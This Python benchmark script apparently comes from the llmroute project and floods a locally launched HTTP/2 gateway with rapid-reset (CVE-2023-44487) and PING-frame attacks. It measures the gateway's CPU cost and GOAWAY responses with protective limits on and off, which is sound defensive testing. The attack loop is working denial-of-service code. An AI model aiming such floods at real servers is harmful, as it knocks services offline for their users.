"""HTTP/2 abuse against ``llmroute serve``: what an attacker costs the gateway, with the limits
on (the defaults) and off (budgets of 10^9, i.e. hypercorn 0.18's own behaviour).

The gateway runs in its own process (HTTPS, HTTP/2 by ALPN) in front of a simulator; the
attacker is a raw ``h2`` client with a wrong key that reconnects whenever the gateway closes its
connection. Attacks: ``reset`` (HEADERS without END_STREAM, then RST_STREAM, in batches of 100:
rapid reset, CVE-2023-44487) and ``ping`` (PING frames in batches of 1,000). For each, the
gateway's CPU time (``/proc``) during the attack and in the seconds after it, the streams or
frames sent, the connections used and the GOAWAY codes received.

    .venv/bin/python benchmarks/gateway_abuse.py              # 2 x 2 attacks of 10 s
    .venv/bin/python benchmarks/gateway_abuse.py --seconds 3  # shorter
    .venv/bin/python benchmarks/gateway_abuse.py --server granian  # the gateway on granian
"""

from __future__ import annotations

import argparse
import socket
import ssl
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import httpx
from _machine import machine
from gateway import GATEWAY_KEY, cpu_seconds, gateway_process
from hyperframe.frame import PingFrame

from llmroute.testing import Profile, SimulatorProcess

OFF = "h2_max_resets = 1000000000\nh2_max_control_frames = 1000000000\n"


def _connect(port: int, ctx: ssl.SSLContext) -> tuple[ssl.SSLSocket, h2.connection.H2Connection]:
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock = ctx.wrap_socket(raw, server_hostname="127.0.0.1")
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    return sock, conn


def _drain(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, goaways: Counter[str]) -> bool:
    """Read what the gateway sent; False once it closed the connection."""
    while True:
        try:
            data = sock.recv(65536)
        except (BlockingIOError, ssl.SSLWantReadError):
            return True
        except OSError:
            return False
        if not data:
            return False
        try:
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaways[h2.errors.ErrorCodes(event.error_code).name] += 1
        except Exception:  # the client's state machine after a GOAWAY: the connection is done
            return False


def attack(kind: str, port: int, ctx: ssl.SSLContext, seconds: float) -> dict[str, object]:
    sent = connections = 0
    goaways: Counter[str] = Counter()
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        try:
            sock, conn = _connect(port, ctx)
        except OSError:
            continue
        connections += 1
        stream_id = 1
        try:
            while time.monotonic() < ends and _drain(sock, conn, goaways):
                if kind == "reset":
                    for _ in range(100):
                        conn.send_headers(
                            stream_id,
                            [
                                (":method", "POST"),
                                (":path", "/v1/chat/completions"),
                                (":scheme", "https"),
                                (":authority", "127.0.0.1"),
                                ("authorization", "Bearer wrong-key"),
                            ],
                        )
                        conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                        stream_id += 2
                        sent += 1
                    data = conn.data_to_send()
                else:
                    data = b"".join(
                        PingFrame(0, opaque_data=b"12345678").serialize() for _ in range(1000)
                    )
                    sent += 1000
                sock.setblocking(True)
                sock.settimeout(1)
                sock.sendall(data)
                sock.setblocking(False)
        except (OSError, h2.exceptions.ProtocolError):
            pass
        finally:
            sock.close()
    return {"sent": sent, "connections": connections, "goaway": dict(goaways)}


def answered(url: str, ctx: ssl.SSLContext) -> float:
    """Requests the gateway's app has answered without a valid key (from its /metrics)."""
    with httpx.Client(http2=True, verify=ctx, timeout=30) as client:
        text = client.get(
            url.removesuffix("/v1") + "/metrics",
            headers={"authorization": f"Bearer {GATEWAY_KEY}"},
        ).text
    return sum(
        float(line.rsplit(" ", 1)[1])
        for line in text.splitlines()
        if line.startswith('llmroute_gateway_requests_total{key="-"')
    )


def main() -> None:
    parser = argparse.ArgumentParser(description="HTTP/2 abuse against llmroute serve")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--after", type=float, default=3.0, help="seconds measured after")
    parser.add_argument(
        "--server",
        choices=("hypercorn", "granian"),
        default="hypercorn",
        help="the HTTP server under the gateway (granian: hyper's own HTTP/2 limits)",
    )
    args = parser.parse_args()
    print(machine(["h2", "hypercorn", "granian"]))
    runs = [("limits on (defaults)", ""), ("limits off", OFF)]
    if args.server == "granian":
        runs = [("granian (hyper's own)", "")]
    with SimulatorProcess(profile=Profile(reply_tokens=20)) as sim:
        for label, extra in runs:
            with (
                tempfile.TemporaryDirectory() as folder,
                gateway_process(sim, folder, gateway=extra, server=args.server) as (url, ctx, pid),
            ):
                port = int(url.rsplit(":", 1)[1].split("/")[0])
                for kind in ("reset", "ping"):
                    time.sleep(1.0)
                    seen = answered(url, ctx)
                    before = cpu_seconds(pid)
                    result = attack(kind, port, ctx, args.seconds)
                    during = cpu_seconds(pid) - before
                    time.sleep(args.after)
                    after = cpu_seconds(pid) - before - during
                    seen = answered(url, ctx) - seen
                    unit = "streams" if kind == "reset" else "frames"
                    print(
                        f"{label:22} {kind:6} {result['sent']:>9,} {unit} sent over "
                        f"{result['connections']:>5,} connections; gateway CPU "
                        f"{during:5.2f} s during {args.seconds:g} s "
                        f"({100 * during / args.seconds:3.0f}% of a core), "
                        f"{after:4.2f} s in the {args.after:g} s after; requests answered "
                        f"{seen:,.0f}; GOAWAY {result['goaway']}"
                    )


if __name__ == "__main__":
    main()
